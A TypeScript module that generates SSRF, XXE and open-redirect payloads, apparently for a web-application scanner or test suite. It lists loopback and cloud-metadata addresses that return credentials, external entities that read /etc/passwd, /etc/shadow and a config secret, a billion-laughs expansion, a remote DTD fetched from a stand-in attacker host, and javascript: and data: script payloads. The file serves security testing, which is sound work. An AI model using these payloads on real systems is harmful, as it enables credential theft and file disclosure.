// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are what other languages take for placeholders.
import { createAuthor, type Draft, encode } from "./draft.ts";

/** Addresses that the server follows (SSRF, external entities) and those it sends visitors to. */
export function fetchingAttacks(): Draft[] {
  return [...forgedFetches(), ...entities(), ...redirects()];
}

function forgedFetches(): Draft[] {
  const { get } = createAuthor("ssrf");
  const reaches = { oracle: "internal-fetch", expectDirect: 200 } as const;
  const addresses = [
    "http://127.0.0.1/",
    "http://localhost:8080/admin",
    "http://127.1/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://0/",
    "http://0.0.0.0:3000/",
    "http://[::1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[0:0:0:0:0:ffff:7f00:1]/",
    "http://127.0.0.1.nip.io/",
    "http://localtest.me/",
    "http://127.0.0.1@127.0.0.1/",
    "http://blog.harbour-pine.example@localhost/",
    "http://localhost%00.example.com/".replace("%00", ""),
    "http://①②⑦.⓪.⓪.①/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://2852039166/latest/user-data",
    "http://10.0.0.1/",
    "http://192.168.1.1/cgi-bin/luci",
    "https://172.16.0.5/",
    "gopher://127.0.0.1:6379/_INFO",
    "dict://localhost:11211/stats",
    "ftp://127.0.0.1/etc/passwd",
    "//127.0.0.1/",
    "file:///etc/passwd",
    "netdoc:///etc/passwd",
    "HTTP://LOCALHOST/",
    "http://kubernetes.default.svc/api/v1/secrets",
    "http://redis:6379/",
  ];
  const nowhere = new Set(["http://localhost.example.com/"]);
  return addresses.map((address) => get(`/preview?url=${encode(address)}`, nowhere.has(address) ? { expectDirect: 502 } : reaches));
}

function entities(): Draft[] {
  const { xml, send } = createAuthor("xxe");
  const expands = { oracle: "entity-result", expectDirect: 200 } as const;
  const head = '<?xml version="1.0" encoding="UTF-8"?>';
  const letters = "abcdefghij";
  const laughs = [...letters.slice(1)].map((name, index) => `<!ENTITY ${name} "${`&${letters[index]};`.repeat(10)}">`).join("");
  return [
    xml("/import", `${head}<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p><name>&x;</name></p>`, expands),
    xml("/import", `<!DOCTYPE p [<!ENTITY x SYSTEM 'file:///srv/shop/config/secret.yml'>]><p><name>&x;</name></p>`, expands),
    xml("/import", `${head}<!DOCTYPE p [<!ENTITY x PUBLIC "any" "file:///etc/shadow">]><p><name>&x;</name></p>`, expands),
    xml("/import", `${head}<!DOCTYPE p [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><p><name>&x;</name></p>`, expands),
    xml("/import", `${head}<!DOCTYPE p [<!ENTITY x SYSTEM "http://localhost:8080/internal">]><p><name>&x;</name></p>`, expands),
    xml("/import", `${head}<!DOCTYPE p [<!ENTITY a "Harbour"><!ENTITY b "&a;Pine">]><p><name>&b;</name></p>`, {
      ...expands,
      proof: "HarbourPine",
    }),
    xml("/import", `${head}<!DOCTYPE p [<!ENTITY a "lol">${laughs}]><p><name>&j;</name></p>`, expands),
    xml(
      "/import",
      `<p xmlns:xi="http://www.w3.org/2001/XInclude"><name><xi:include parse="text" href="file:///etc/passwd"/></name></p>`,
      expands,
    ),
    xml("/import", `${head}<!DOCTYPE\tp\n[\n<!ENTITY\tx\nSYSTEM\t"file:///etc/passwd"\n>]><p><name>&x;</name></p>`, expands),
    xml("/import", `${head}<!DOCTYPE p SYSTEM "http://localhost/evil.dtd"><p><name>&dtd;</name></p>`, expands),
    send("POST", "/import", `${head}<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p><name>&x;</name></p>`, {
      ...expands,
      headers: { "content-type": "text/xml" },
    }),
    send("POST", "/import", `<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p><name>&x;</name></p>`, {
      ...expands,
      headers: { "content-type": "application/json" },
    }),
    send("POST", "/import", utf16(`<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p><name>&x;</name></p>`), {
      ...expands,
      encoding: "latin-1",
      headers: { "content-type": "application/xml; charset=utf-16" },
    }),
    xml("/import", `${head}<!DOCTYPE p [<!ENTITY % d SYSTEM "http://evil.example/evil.dtd">%d;]><p><name>x</name></p>`, {
      expectDirect: 200,
    }),
  ];
}

/** UTF-16 with its byte order mark, one character a byte. */
function utf16(text: string): string {
  return Buffer.from(`\ufeff${text}`, "utf16le").toString("latin1");
}

function redirects(): Draft[] {
  const { get } = createAuthor("open-redirect");
  const targets = [
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "https:evil.example".replace("https:", "http:\\\\"),
    "http://shop.example@evil.example/",
    "https://evil.example/?next=http://shop.example/",
    "https://evil.example#shop.example",
    "HTTPS://EVIL.EXAMPLE/login",
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "https://shop.example.evil.example/account",
  ];
  return [
    ...targets.map((target) => get(`/redirect?to=${encode(target)}`, { oracle: "off-site", expectDirect: 302 })),
    get("/redirect?to=//evil.example/%2e%2e", { oracle: "off-site", expectDirect: 302 }),
    get("/redirect?to=https:%2F%2Fevil.example", { oracle: "off-site", expectDirect: 302 }),
  ];
}
